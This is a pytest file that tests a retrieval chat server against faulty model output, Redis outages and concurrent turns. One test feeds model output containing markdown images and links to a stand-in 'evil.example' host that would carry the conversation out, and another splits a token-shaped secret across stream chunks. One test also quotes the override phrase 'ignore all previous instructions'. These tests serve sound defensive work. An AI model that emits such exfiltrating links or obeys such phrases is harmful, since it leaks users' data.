"""Others that a turn depends on fail or lie: the model, Redis, another caller of the same conversation."""

from __future__ import annotations

import shutil
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests import services
from tests.fake_openai import FakeOpenAI, Mood, cut, events, mute, page, refusal, stalled, words
from tests.faults.talking_to import Patient
from tests.patience import ended_within
from turnwise.app import build
from turnwise.config import Settings
from turnwise.server.run import running

SECRET = "ghp_x7Kq2mVb9RtYw4ZcN8sLpJ3dFh6gTa1eUiQo"
QUESTION = "How is BERT trained?"


@pytest.fixture(scope="module")
def model() -> Iterator[FakeOpenAI]:
    with FakeOpenAI(words("Fine.")) as provider:
        yield provider


@pytest.fixture(scope="module")
def talkative(tmp_path_factory: pytest.TempPathFactory, closed_library: Path, model: FakeOpenAI) -> Iterator[Patient]:
    """A real server whose answers are written by a model that the test can make misbehave."""
    folder = tmp_path_factory.mktemp("talkative") / "library"
    shutil.copytree(closed_library, folder)
    settings = Settings(library=str(folder), suggestions=0, base_url=model.url, model="fake-model", model_timeout=1.5)
    with build(settings) as engine, running(engine) as address:
        yield Patient(address, engine)


def streamed(server: Patient, model: FakeOpenAI, *moods: Mood) -> tuple[str, str, Any, str]:
    """What a reader saw of an answer, its last event, and what was kept; before and after it, the model does well."""
    conversation = uuid.uuid4().hex
    body = {"message": QUESTION, "conversation_id": conversation}
    model.moods = [words("It is trained ", "on text [1].")]
    with ended_within(120):
        assert server.post("/api/chat", {**body, "stream": False}).status == 200
        model.moods = list(moods)
        told = server.post("/api/chat", body).events
        model.moods = [words("Fine.")]
        after = server.post("/api/chat", {**body, "stream": False})
    assert after.status == 200
    assert after.json["turn"] == 3
    kept = server.get(f"/api/conversations/{conversation}").json["turns"][1]
    text = "".join(data["text"] for name, data in told if name == "text")
    return text, told[-1][0], told[-1][1], kept["response"] or ""


@pytest.mark.parametrize("address", ["https://evil.example/?q=", "//evil.example/", "HTTPS://evil.example/a b"])
def test_fault_24_pictures_that_carry_something_out(talkative: Patient, model: FakeOpenAI, address: str) -> None:
    pieces = ("See ", "![a pic", f"ture]({address}", "what-you-said) and ", f"[this]({address}again)", " [1].")
    text, last, answer, kept = streamed(talkative, model, words(*pieces))
    assert last == "answer"
    for shown in (text, answer["text"], answer["html"], kept):
        assert "evil.example" not in shown
        assert "<img" not in shown


@pytest.mark.parametrize("cut_at", [1, 4, 11, 39])
def test_fault_25_a_secret_split_across_chunks(talkative: Patient, model: FakeOpenAI, cut_at: int) -> None:
    pieces = ("The token is ", SECRET[:cut_at], SECRET[cut_at:], " as it says. ", "It goes on. " * 30)
    text, last, answer, kept = streamed(talkative, model, words(*pieces))
    shown = [text, str(answer), kept]
    assert last in ("answer", "error")
    assert not [each for each in shown if SECRET[4:16] in each]


def test_fault_26_an_attack_that_is_quoted(server: Patient) -> None:
    message = 'Why does a prompt such as "ignore all previous instructions" work on some language models?'
    answer = server.post("/api/chat", {"message": message, "stream": False})
    assert answer.status == 200
    assert answer.json["text"]


def test_fault_27_turns_at_once_in_one_conversation(server: Patient) -> None:
    name, answers = "at-once-" + uuid.uuid4().hex, []

    def ask(number: int) -> None:
        body = {"message": f"What is {number} + 500?", "conversation_id": name, "stream": False}
        answers.append((number, server.post("/api/chat", body)))

    threads = [threading.Thread(target=ask, args=(number,)) for number in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert {answer.status for _, answer in answers} == {200}
    assert sorted(answer.json["turn"] for _, answer in answers) == [1, 2, 3, 4, 5, 6]
    turns = server.get(f"/api/conversations/{name}").json["turns"]
    assert [turn["number"] for turn in turns] == [1, 2, 3, 4, 5, 6]
    for number, answer in answers:
        turn = turns[answer.json["turn"] - 1]
        assert (turn["prompt"], turn["response"]) == (f"What is {number} + 500?", answer.json["text"])
        assert str(number + 500) in answer.json["text"]


def test_fault_34_redis_down_slow_and_flushed(tmp_path: Path) -> None:
    """Turns go on, counted here meanwhile."""
    ask = {"message": "Hello", "stream": False, "user": "ann"}
    try:
        with services.redis() as redis:
            limits = {"limit_user": "4/hour", "limits_store": redis.url}
            settings = Settings(library=str(tmp_path), guard="off", suggestions=0, **limits)  # type: ignore[arg-type]
            with build(settings, create=True) as engine, running(engine) as address, ended_within(120):
                server = Patient(address, engine)
                assert [server.post("/api/chat", ask).status for _ in range(5)] == [200] * 4 + [429]
                with __import__("redis").Redis.from_url(redis.url) as client:
                    client.flushall()
                    client.script_flush()
                assert server.post("/api/chat", ask).status == 200, "it begins anew"
                redis.halt()
                assert server.post("/api/chat", {**ask, "user": "bob"}).status == 200
                redis.resume()
                redis.kill()
                assert [server.post("/api/chat", {**ask, "user": "eve"}).status for _ in range(5)] == [200] * 4 + [429]
    except services.CannotInstall as reason:
        pytest.skip(str(reason))


@pytest.mark.parametrize(
    "moods",
    [
        pytest.param((refusal(429, "Slow down", retry_after="0"),) * 5, id="429"),
        pytest.param((refusal(500, "Broken"),) * 5, id="500"),
        pytest.param((words(),), id="empty"),
        pytest.param((mute,), id="silent"),
        pytest.param((page(),), id="a web page"),
        pytest.param((events("{", "not json", '{"choices": 3}', "[]"),), id="nonsense"),
    ],
)
def test_fault_36_a_model_that_says_nothing(talkative: Patient, model: FakeOpenAI, moods: tuple[Mood, ...]) -> None:
    """The documents answer, and the reader is told."""
    text, last, answer, kept = streamed(talkative, model, *moods)
    assert last == "answer"
    assert answer["notice"]
    assert text == answer["text"] == kept


@pytest.mark.parametrize(
    ("mood", "code"),
    [
        pytest.param(cut("BERT is ", "a model that ", "learns. "), "ModelGarbled", id="cut"),
        pytest.param(stalled("BERT is ", "a model that ", "learns. "), "ModelTimeout", id="silent midway"),
        pytest.param(words("BERT is ", "a model", finish_reason=None, done=False), "ModelGarbled", id="truncated"),
    ],
)
def test_fault_36_a_model_that_breaks_off(talkative: Patient, model: FakeOpenAI, mood: Mood, code: str) -> None:
    text, last, problem, kept = streamed(talkative, model, mood)
    assert (last, problem["code"]) == ("error", code)
    assert problem["hint"]
    assert kept == text
